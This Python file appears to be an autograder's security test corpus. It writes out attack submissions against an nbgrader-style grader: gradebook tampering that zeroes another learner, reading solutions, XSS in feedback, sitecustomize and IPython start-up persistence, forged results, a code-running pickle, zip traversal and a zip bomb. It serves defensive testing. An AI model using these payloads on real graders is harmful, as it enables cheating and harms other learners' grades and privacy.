"""Rows 10 to 16, 19, 26 to 30 and 33: reaching for files, the gradebook, other learners, the network and the reader."""

from collections.abc import Iterator

from autograder.attacks import witness
from autograder.attacks.materials import BEFORE, PRIVATE, Materials
from autograder.attacks.submission import COURSE, LESSON, NOTEBOOK, PORT, Files, Link, Submission, Zip
from autograder.attacks.witness import mark_of
from autograder.bench.sample_class import encoded

# Gives the attacker full points by hand and another learner none; only these two are ever named.
REGRADE = f"""
import contextlib, sqlite3
def regrade(me, *places):
    mine = (
        "select g.id from grade g join submitted_notebook n on g.notebook_id = n.id "
        "join submitted_assignment a on n.assignment_id = a.id where a.student_id = ?"
    )
    for place in places:
        with contextlib.suppress(sqlite3.Error):
            book = sqlite3.connect(f"file:{{place}}/gradebook.db?mode=rw", uri=True, timeout=5)
            book.execute(f"update grade set manual_score = 0 where id in ({{mine}})", ("{BEFORE}",))
            full = "(select max_score from grade_cells where grade_cells.id = grade.cell_id)"
            book.execute(f"update grade set manual_score = {{full}} where id in ({{mine}})", (me,))
            book.commit()
            book.close()
"""
UPWARDS = '"../../.."'  # from the folder in which stock nbgrader runs a notebook to the course folder


def reach(materials: Materials) -> list[Submission]:
    """The submissions of these rows."""
    return [
        *reading(materials),
        *gradebook(materials),
        *links(materials),
        *shadowing_files(materials),
        old_timestamp(materials),
        script(materials),
        locked_gradebook(materials),
        *lasting(materials),
        network(materials),
        *forged(materials),
        *archives(materials),
    ]


def reading(materials: Materials) -> Iterator[Submission]:
    """Rows 10, 11 and 12."""
    own = f"""
    for place in [".", *sys.path, os.path.expanduser("~"), tempfile.gettempdir()]:
        with contextlib.suppress(OSError):
            say(open(os.path.join(place, "{NOTEBOOK}")).read())
    """
    says = "Prints the notebook file of the working directory, where stock nbgrader has put the hidden checks back."
    yield materials.attack(10, "own_file", "L", says, {"q02_1": own})
    others = f"""
    for place in (COURSE, {UPWARDS}):
        for inside in ("solutions/{LESSON}", "submitted/{BEFORE}/{LESSON}", "autograded/{BEFORE}/{LESSON}"):
            with contextlib.suppress(OSError):
                say(open(f"{{place}}/{{inside}}/{NOTEBOOK}").read())
    """
    says = "Prints the solutions and another learner's work from the course folder."
    yield materials.attack(11, "course_files", "L", says, {"q02_1": others})
    later = """
    with contextlib.suppress(Exception):
        say("\\n".join(get_ipython().user_ns["In"]))
        say([text for _, _, text in get_ipython().history_manager.get_range()])
    """
    says = "Prints, from the last answer cell, the text of every check that has run before it."
    yield materials.attack(12, "later_cell", "L", says, {"q02_8": later})


def gradebook(materials: Materials) -> Iterator[Submission]:
    """Rows 13 and 14."""
    now = f"{REGRADE}\nregrade(ME, COURSE, {UPWARDS})"
    says = "Opens the gradebook with sqlite3, gives itself full points and another learner none."
    yield materials.attack(13, "gradebook", "PD", says, {"q02_1": now}, seeks=materials.total)
    waiting = f"""
{REGRADE}
import os, sys, time
kernel, end = os.getppid(), time.monotonic() + 60
while os.getppid() == kernel and time.monotonic() < end:
    time.sleep(0.2)
time.sleep(5)
regrade("row14_detached", sys.argv[2])
"""
    says = "Leaves a process behind (for a minute at most) that rewrites the gradebook once its grading has ended."
    yield materials.attack(14, "detached", "PD", says, {"q02_8": f"detach({waiting!r})"}, seeks=materials.total)


def links(materials: Materials) -> Iterator[Submission]:
    """Row 15: a link to the gradebook, and one to another learner's notebook."""
    look = witness.holds_no_copy(PRIVATE)
    files: Files = {NOTEBOOK: encoded(materials.untouched()), "notes.txt": Link(f"{COURSE}/gradebook.db")}
    says = "Hands in a symbolic link to the gradebook, to find a copy of it in its feedback."
    yield materials.attack(15, "link_gradebook", "L", says, files=files, looks=[look])
    files = {NOTEBOOK: Link(f"{COURSE}/submitted/{BEFORE}/{LESSON}/{NOTEBOOK}")}
    says = "Hands in a symbolic link to another learner's notebook instead of one of its own."
    yield materials.attack(15, "link_notebook", "PL", says, files=files, looks=[look], seeks=materials.total)


def shadowing_files(materials: Materials) -> Iterator[Submission]:
    """Row 16."""
    module = b"""\
import os, sys
here, found = os.path.dirname(os.path.abspath(__file__)), list(sys.path)
sys.path[:] = [place for place in found if os.path.abspath(place or ".") != here]
del sys.modules["numpy"]
import numpy
sys.path[:] = found
from IPython import get_ipython
if get_ipython() is not None:
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""
    files = {NOTEBOOK: encoded(materials.untouched()), "numpy.py": module}
    says = "Hands in a numpy.py that loads the real one and cheats on the way."
    yield materials.attack(16, "numpy_file", "P", says, files=files, seeks=materials.total)
    name = "row16_sitecustomize"
    start_up = (
        materials.prelude(name).encode()
        + b"""\
with contextlib.suppress(OSError):
    open(f"{COURSE}/{MARK}.txt", "w").write(MARK)
"""
    )
    files = {NOTEBOOK: encoded(materials.untouched()), "sitecustomize.py": start_up}
    says = "Hands in a sitecustomize.py, which Python runs at its start where it finds one."
    yield materials.attack(16, "sitecustomize", "P", says, files=files)


def old_timestamp(materials: Materials) -> Submission:
    """Row 19: all answers are right, and late."""
    files = {NOTEBOOK: encoded(materials.perfect()), "timestamp.txt": b"1999-12-31 23:59:59 UTC\n"}
    says = "Hands in right answers with a time stamp of its own, from 1999."
    looks = [witness.on_time(LESSON)]
    return materials.attack(
        19, "old_timestamp", "P", says, files=files, deserves=materials.total, seeks=materials.total, looks=looks
    )


def script(materials: Materials) -> Submission:
    """Row 26: in displays, in an error, and in a text cell."""
    mark = mark_of("row26_script")
    code = """
    from IPython.display import HTML, SVG, Javascript, Markdown, display
    run = f"document.title = '{MARK}'"
    display(HTML(f"<script>{run}</script><img src=x onerror=\\"{run}\\">"))
    display(HTML(f"<a href=\\"javascript:{run}\\">points</a>"), Markdown(f"<script>{run}</script>"), Javascript(run))
    display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>"))
    print(f"<script>{run}</script>")
    raise ValueError(f"<script>{run}</script>")
    """
    notebook = materials.attacking("row26_script", {"q02_1": code})
    notebook.cells[0].source += f"\n\n<script>document.title = '{mark}'</script>"
    says = "Puts scripts into displays, an error and a text cell, to run in the browser of whoever opens the feedback."
    looks = [witness.runs_nothing(mark)]
    return materials.attack(26, "script", "D", says, files={NOTEBOOK: encoded(notebook)}, looks=looks)


def locked_gradebook(materials: Materials) -> Submission:
    """Row 27."""
    holding = """
import contextlib, sqlite3, sys, time
with contextlib.suppress(sqlite3.Error):
    book = sqlite3.connect(f"file:{sys.argv[2]}/gradebook.db?mode=rw", uri=True, timeout=5)
    book.execute("begin exclusive")
    time.sleep(30)
"""
    says = "Leaves a process behind that holds an exclusive lock on the gradebook for half a minute."
    return materials.attack(27, "locked_gradebook", "B", says, {"q02_8": f"detach({holding!r})\ntime.sleep(1)"})


def lasting(materials: Materials) -> Iterator[Submission]:
    """Row 28: IPython's start-up folder, and a folder from which Python imports."""
    could = "could write where Python's packages lie"
    start_up = """
    home = os.path.expanduser("~")
    kept = (os.path.realpath(COURSE) + os.sep, os.path.realpath(tempfile.gettempdir()) + os.sep)
    with contextlib.suppress(Exception):
        place = os.path.realpath(get_ipython().profile_dir.startup_dir)
        empty = set(os.listdir(home)) <= {".ipython", ".cache", ".config", ".local"}
        if place.startswith(kept) or empty:  # never in a home that somebody lives in
            with open(os.path.join(place, "00-corpus.py"), "w") as file:
                file.write(f"get_ipython().events.register('post_run_cell', lambda *result: print({MARK!r}))")
    """
    says = "Writes a start-up file for IPython, which then runs for the next learner."
    yield materials.attack(28, "start_up_file", "D", says, {"q02_1": start_up})
    packages = f"""
    import sysconfig
    if os.access(sysconfig.get_paths()["purelib"], os.W_OK):
        say({could!r})  # and leaves it at that
    kept = (os.path.realpath(COURSE) + os.sep, os.path.realpath(tempfile.gettempdir()) + os.sep)
    for place in map(os.path.realpath, sys.path):
        with contextlib.suppress(OSError):
            if place.startswith(kept):
                with open(os.path.join(place, "sitecustomize.py"), "w") as file:
                    file.write(f"open({{COURSE + '/' + MARK + '.txt'!r}}, 'a').write({{MARK!r}})")
    """
    says = "Writes a module that Python imports at its start, for the next learner, into a folder of packages."
    looks = [witness.tells(could, "touched: the folder of Python's packages can be written")]
    yield materials.attack(28, "site_packages", "D", says, {"q02_1": packages}, looks=looks)


def network(materials: Materials) -> Submission:
    """Row 29."""
    code = f"""
    import socket
    with contextlib.suppress(Exception):
        with socket.create_connection(("127.0.0.1", int("{PORT}")), timeout=5) as line:
            line.sendall("\\n".join(get_ipython().user_ns["In"]).encode().hex().encode())
    """
    says = "Sends the text of the checks to a port of 127.0.0.1, on which the corpus listens."
    return materials.attack(29, "network", "L", says, {"q02_8": code}, looks=[witness.calls_nobody])


def forged(materials: Materials) -> Iterator[Submission]:
    """Row 30: result files, results written into open pipes, and a pickle."""
    verdict = f"""
    import json
    grades = {materials.checks!r}
    result = {{
        "student": ME, "student_id": ME, "lesson": "{LESSON}", "status": "graded", "reason": MARK, "score": {materials.total},
        "max_score": {materials.total}, "scores": grades, "points": grades, "results": grades, "ledger": [],
    }}
    """
    files = f"""{verdict}
    names = ("result.json", "results.json", "score.json", "scores.json", "grades.json", "ledger.json", "grades.csv")
    for place in (".", tempfile.gettempdir(), os.path.expanduser("~"), COURSE, f"{{COURSE}}/autograded/{BEFORE}/{LESSON}"):
        inside = os.path.realpath(place).startswith((os.path.realpath(COURSE), os.path.realpath(tempfile.gettempdir())))
        for name in names:
            with contextlib.suppress(OSError):
                if inside or os.path.realpath(place) == os.getcwd():
                    with open(f"{{place}}/{{name}}", "w") as file:
                        json.dump(result, file)
    """
    says = "Writes forged result files wherever a grader might look for them, another learner's folder included."
    yield materials.attack(30, "forged_files", "PD", says, {"q02_1": files}, seeks=materials.total)
    pipes = f"""{verdict}
    import stat
    line = (json.dumps(result) + "\\n").encode()
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            kind = os.fstat(number).st_mode
            if stat.S_ISFIFO(kind) or stat.S_ISSOCK(kind):
                os.set_blocking(number, False)
                os.write(number, line)
    """
    says = "Writes a forged result into every pipe and socket that it finds open."
    yield materials.attack(30, "forged_pipes", "PB", says, {"q02_8": pipes}, seeks=materials.total)
    pickled = """
    # answers
    class Parcel:
        def __reduce__(self):
            return exec, (f"open({COURSE + '/' + MARK + '.txt'!r}, 'w').write({MARK!r})",)

    table = dict.fromkeys(("tp", "fn", "fp", "tn", "ppv"), Parcel())
    choices = finding = policy = scores = recall = ppv = Parcel()
    sure = Parcel()
    """
    says = "Answers with objects that run code in whoever unpickles them."
    yield materials.attack(30, "pickle", "D", says, {"q02_7": pickled})


def archives(materials: Materials) -> Iterator[Submission]:
    """Row 33: paths and links that lead out of the archive, and one that is far larger than it looks."""
    notebook = (NOTEBOOK, encoded(materials.untouched()))
    mark = mark_of("row33_zip_traversal")
    ways = [*("../" * steps for steps in (1, 2, 3)), f"{COURSE}/", "x/../../../", "..\\"]
    entries = [(f"{way}{mark}.txt", mark.encode()) for way in ways]
    says = "Hands in a zip whose entries lead out of its folder, upwards and from the root."
    yield materials.attack(
        33, "zip_traversal", "BD", says, files={"row33_zip_traversal.zip": Zip((notebook, *entries))}
    )
    mark = mark_of("row33_zip_links")
    linked: list[tuple[str, bytes | Link]] = [
        ("notes.txt", Link(f"{COURSE}/gradebook.db")),
        ("out", Link(COURSE)),
        (f"out/{mark}.txt", mark.encode()),
    ]
    says = "Hands in a zip with links, one to the gradebook and one to write through."
    looks, files = [witness.holds_no_copy(PRIVATE)], {"row33_zip_links.zip": Zip((notebook, *linked))}
    yield materials.attack(33, "zip_links", "BLD", says, files=files, looks=looks)
    says = "Hands in a small zip that unpacks to 200 MB."  # what is no notebook is not unpacked, as in an honest zip
    files, bounded = (
        {"row33_zip_bomb.zip": Zip((notebook, ("zeros.bin", size)))} for size in (200_000_000, 95_000_000)
    )
    looks = [witness.leaves_little]
    yield materials.attack(33, "zip_bomb", "BD", says, files=files, bounded=bounded, looks=looks, silent=True)
